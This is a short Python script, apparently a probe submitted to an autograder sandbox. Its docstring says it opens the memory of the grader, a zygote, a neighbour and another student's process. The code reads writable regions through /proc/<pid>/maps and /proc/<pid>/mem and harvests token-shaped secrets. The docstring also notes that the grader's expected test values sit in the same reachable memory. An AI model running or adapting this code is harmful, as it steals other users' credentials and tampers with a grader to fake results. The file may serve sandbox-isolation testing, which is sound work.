"""Opens the memory of the grader, the zygote, the neighbour and another student's process, and reads the heap.

Elsewhere: same user, same memory: the expected values of all tests.
"""

# %% solution="value"
import re

from toolbox import each, reached, tell, victims

WITNESS = True


def read(pid):
    with open(f"/proc/{pid}/maps") as maps:
        spans = re.findall(r"^(\w+)-(\w+) rw.*(?:heap|stack|)\]?$", maps.read(), re.MULTILINE)
    found = []
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, end in spans:
            memory.seek(int(start, 16))
            found += re.findall(
                rb"token:\w+:\w{16}", memory.read(min(int(end, 16) - int(start, 16), 1 << 20))
            )
    return found or "nothing"


def loot():
    reached()
    return each(read, victims())


def attribute(prompt, x):
    return tell(loot)
